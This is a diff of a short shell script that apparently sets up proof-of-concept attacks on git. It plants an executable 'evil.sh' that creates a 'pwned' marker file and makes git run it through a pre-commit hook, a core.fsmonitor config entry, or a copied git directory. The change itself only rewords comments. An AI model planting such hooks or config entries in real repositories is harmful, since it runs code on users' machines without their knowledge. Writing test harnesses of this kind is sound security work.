@@ -1,5 +1,5 @@
-# Makes git on the host run something of ours the next time the user calls it. $1 says through which
-# door.
+# Makes git on the host run a program of the attacker the next time the user calls git. $1 names the
+# attack.
 planted() { printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >"$1" && chmod 755 "$1"; }
 monitor() { printf '[core]\n\tfsmonitor = %s/evil.sh\n' "$PWD"; }
 planted evil.sh
@@ -7,7 +7,7 @@ case $1 in
 hook) planted .git/hooks/pre-commit ;;
 config) monitor >>.git/config ;;
 commondir)
-    # git then reads settings, hooks, objects and refs from there.
+    # git then reads settings, hooks, objects and refs from `evil`.
     cp -rL .git evil
     rm -f evil/commondir
     monitor >>evil/config
